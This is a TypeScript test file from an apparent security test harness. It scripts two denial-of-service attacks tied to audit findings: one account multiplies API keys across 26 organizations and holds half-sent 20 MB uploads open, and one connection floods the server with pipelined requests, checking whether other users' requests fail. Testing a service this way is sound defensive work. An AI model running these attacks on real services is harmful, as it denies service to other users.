import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { aPicture } from '../../../server/src/testing/samples/made-files.ts';
import { type Attack, counted, type Target } from '../target.ts';

/** Attacks by one account, or one connection, that uses up shared places. */

const organizations = 26;

async function posted<T>(target: Target, path: string, token: string, body?: object): Promise<T | null> {
  const { status, text } = await target.ask('POST', path, { token, body });
  return status < 300 ? JSON.parse(text) : null;
}

async function keysOfOne(target: Target): Promise<string[]> {
  let { token } = await target.register();
  const secrets: string[] = [];
  for (let count = 0; count < organizations; count++) {
    const made = await posted<{ id: string }>(target, '/api/organizations', token, { name: 'Otra', type: 'other' });
    if (!made) break;
    const moved = await posted<{ token: string }>(target, '/api/auth/switch', token, { organizationId: made.id });
    token = moved?.token ?? token;
    const key = await posted<{ id: string }>(target, '/api/api-keys', token, {
      name: 'K',
      permissions: ['upload:write'],
    });
    const opens = await posted<{ secret: string }>(target, `/api/api-keys/${key?.id}/secret`, token);
    if (opens) secrets.push(opens.secret);
  }
  return secrets;
}

function opened(target: Target, words: string): Socket {
  const socket = connect(target.port, 'localhost').on('error', () => undefined);
  socket.resume().write(words);
  return socket;
}

async function keyInEach(target: Target) {
  const outsider = await target.register();
  const secrets = await keysOfOne(target);
  const sockets = secrets.flatMap((secret) =>
    Array.from({ length: 4 }, () =>
      opened(
        target,
        `POST /api/uploads HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${secret}\r\n` +
          `Content-Type: application/octet-stream\r\nContent-Length: 20000000\r\n\r\n${'x'.repeat(70_000)}`,
      ),
    ),
  );
  await delay(2_000);
  const statuses: number[] = [];
  for (let count = 0; count < 5; count++) {
    statuses.push((await target.ask('POST', '/api/uploads', { token: outsider.token, body: aPicture() })).status);
  }
  for (const socket of sockets) socket.destroy();
  return {
    answer: `${secrets.length} organizations with a key; an outsider’s uploads: ${counted(statuses)}`,
    works: statuses.some((status) => status !== 201),
  };
}

async function pipelined(target: Target) {
  const { token } = await target.register();
  const sockets: Socket[] = [];
  const statuses: number[] = [];
  for (const end = performance.now() + 8_000; performance.now() < end; await delay(30)) {
    const ended = sockets.every(({ closed }) => closed);
    if (ended) sockets.push(opened(target, 'GET /api/auth/providers HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(500)));
    statuses.push((await target.ask('GET', '/api/vehicles?limit=1', { token })).status);
  }
  for (const socket of sockets) socket.destroy();
  return {
    answer: `somebody else’s list meanwhile: ${counted(statuses)}`,
    works: statuses.some((status) => status !== 200),
  };
}

export const shareAttacks: Attack[] = [
  {
    finding: '3.3',
    what: 'one account with a key in each of 26 organizations, four half-sent files each',
    run: keyInEach,
  },
  { finding: '3.6', what: '500 pipelined requests of one connection, again and again', run: pipelined },
];
